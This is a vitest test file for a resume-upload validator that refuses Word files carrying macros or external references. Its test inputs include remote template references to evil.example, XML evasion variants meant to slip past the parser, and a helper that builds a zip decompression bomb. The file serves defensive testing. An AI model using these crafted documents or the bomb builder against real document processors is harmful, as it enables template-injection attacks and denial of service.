import { crc32, deflateRawSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { aCompoundFile, aDocx } from '../../../infra/test/documents.ts';
import { readResume } from './resume.ts';

const macros = 'Resume must not contain macros: please save it as a PDF';
const loads = 'Resume must not load anything from elsewhere: please save it as a PDF';
const wrongType = 'Resume must be a PDF or Word document';

const schema = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const template = `${schema}/attachedTemplate`;

const relations = (inside: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inside}</Relationships>`;
const external = (type: string, target: string) =>
  relations(`<Relationship Id="rId1" Type="${type}" Target="${target}" TargetMode="External"/>`);
const settings = (xml: string) => aDocx({ 'word/_rels/settings.xml.rels': xml });
const remote = external(template, 'http://evil.example/t.dotm');

const outcome = async (bytes: Buffer, name = 'cv.docx') =>
  await readResume(name, bytes).then(
    ({ type }) => type,
    ({ kind, fields }) => [kind, fields.resume],
  );

describe('a .docx file', () => {
  test.each([
    ['with a program', aDocx({ 'word/vbaProject.bin': 'x' })],
    ['with a program under an escaped name', aDocx({ 'word/VBA%50roject.bin': 'x' })],
    [
      'with a program under another name',
      aDocx({
        'word/_rels/document.xml.rels': relations(
          '<Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="notes.bin"/>',
        ),
      }),
    ],
  ])('S-195: %s is refused for its macros', async (_what, bytes) => {
    expect(await outcome(bytes)).toEqual(['wrong-type', macros]);
  });

  test.each([
    ['a template', remote],
    ['a template of another machine in the network', external(template, '\\\\evil.example\\share\\t.dotm')],
    ['a template of another machine, as an address', external(template, 'file://evil.example/share/t.dotm')],
    ['a template of another machine, behind slashes', external(template, 'file:///\\\\evil.example\\t.dotm')],
    ['a template that calls itself a link', external(`${schema}/hyperlink`, 'http://evil.example/t.dotm')],
    ['a picture', external(`${schema}/image`, 'https://evil.example/p.png')],
    ['a template in other quotes and spaces', remote.replaceAll('"', "'").replace("TargetMode='", "\n TargetMode = '")],
    ['a template in references', remote.replace('External', '&#69;xtern&#x61;l')],
    ['a template under a prefix', remote.replace('<Relationship ', '<r:Relationship ')],
    ['a template behind a decoy', remote.replace('Id="rId1"', `Id="TargetMode='Internal'"`)],
  ])('S-197: that loads %s is refused', async (_what, xml) => {
    expect(await outcome(settings(xml))).toEqual(['wrong-type', loads]);
  });

  test.each([
    ['hidden behind a comment', remote.replace('<Relationship ', '<!-- <Relationship " --><Relationship ')],
    ['with a document type', `<!DOCTYPE x [<!ENTITY e "External">]>${remote}`],
    ['that are truncated', remote.slice(0, -40)],
    ['that are no XML', 'x'],
    ['of half a megabyte', relations(' '.repeat(500_000))],
    ['without an end', '<Relationship "'.repeat(17_000)],
  ])('with relationships %s is refused quickly', async (_what, xml) => {
    expect(await outcome(settings(xml))).toEqual(['wrong-type', wrongType]);
  });

  test('that lists a part twice is refused', async () => {
    const bytes = aDocx({ 'word/_rels/settings.xml.rels': remote, 'word/_rels/Settings.xml.rels': relations('') });
    expect(await outcome(bytes)).toEqual(['wrong-type', wrongType]);
  });

  test('with too many parts is refused', async () => {
    const parts = Object.fromEntries(Array.from({ length: 2_100 }, (_, index) => [`word/media/${index}.png`, '']));
    expect(await outcome(aDocx(parts))).toEqual(['wrong-type', wrongType]);
  });

  test('S-194: whose relationships decompress to more than declared is refused', async () => {
    const name = 'word/_rels/settings.xml.rels';
    const small = relations(' '.repeat(600));
    const bomb = deflateRawSync(Buffer.alloc(50_000_000, 32));
    const bytes = withDeflated(aDocx({ [name]: small }), name, Buffer.byteLength(small), bomb);
    const before = process.resourceUsage().maxRSS;
    expect(await outcome(bytes)).toEqual(['wrong-type', wrongType]);
    expect(process.resourceUsage().maxRSS - before).toBeLessThan(40_000);
  });

  test.each([
    ['links', external(`${schema}/hyperlink`, 'https://github.example/ada'), 'document'],
    [
      'the template on its author’s disk, as Word writes it',
      external(template, 'file:///C:\\Users\\ada\\Templates\\Resume.dotx'),
      'settings',
    ],
    [
      'the template on its author’s Mac',
      external(template, 'file:///Users/ada/Library/Templates/Resume.dotx'),
      'settings',
    ],
    ['the template everybody has', external(template, 'Normal.dotm'), 'settings'],
    [
      'parts of its own',
      relations(`<Relationship Id="r" Type="${schema}/image" Target="media/image1.png"/>`),
      'document',
    ],
  ])('with %s is accepted', async (_what, xml, part) => {
    expect(await outcome(aDocx({ [`word/_rels/${part}.xml.rels`]: xml, 'word/media/image1.png': 'x' }))).toBe('docx');
  });
});

describe('a .doc file', () => {
  test.each(['Macros', 'MACROS', 'VBA', '_VBA_PROJECT_CUR'])('S-196: with a storage %s is refused', async (name) => {
    expect(await outcome(aCompoundFile('WordDocument', name), 'cv.doc')).toEqual(['wrong-type', macros]);
  });

  test('that only mentions macros is accepted', async () => {
    const text = Buffer.from('I wrote Macros for VBA, and _VBA_PROJECT is no secret to me.'.padEnd(256), 'utf16le');
    expect(await outcome(Buffer.concat([aCompoundFile('WordDocument', '1Table'), text]), 'cv.doc')).toBe('doc');
  });
});

/** The archive with a part's content deflated, while its directory still declares `size`. */
function withDeflated(archive: Buffer, name: string, size: number, deflated: Buffer): Buffer {
  // Appended as the last part: a local header, then a directory of all parts that points at it.
  const end = archive.lastIndexOf('PK\x05\x06');
  const directoryAt = archive.readUInt32LE(end + 16);
  const local = archive.subarray(0, directoryAt);
  const directory = Buffer.from(archive.subarray(directoryAt, end));
  const entry = directory.indexOf(name) - 46;
  directory.writeUInt16LE(8, entry + 10);
  directory.writeUInt32LE(crc32(deflated), entry + 16);
  directory.writeUInt32LE(deflated.length, entry + 20);
  directory.writeUInt32LE(size, entry + 24);
  directory.writeUInt32LE(local.length, entry + 42);
  const header = Buffer.alloc(30);
  header.write('PK\x03\x04', 'latin1');
  header.writeUInt16LE(20, 4);
  header.writeUInt16LE(8, 8);
  header.writeUInt32LE(deflated.length, 18);
  header.writeUInt32LE(size, 22);
  header.writeUInt16LE(name.length, 26);
  const tail = Buffer.from(archive.subarray(end));
  tail.writeUInt32LE(local.length + header.length + name.length + deflated.length, 16);
  return Buffer.concat([local, header, Buffer.from(name), deflated, directory, tail]);
}
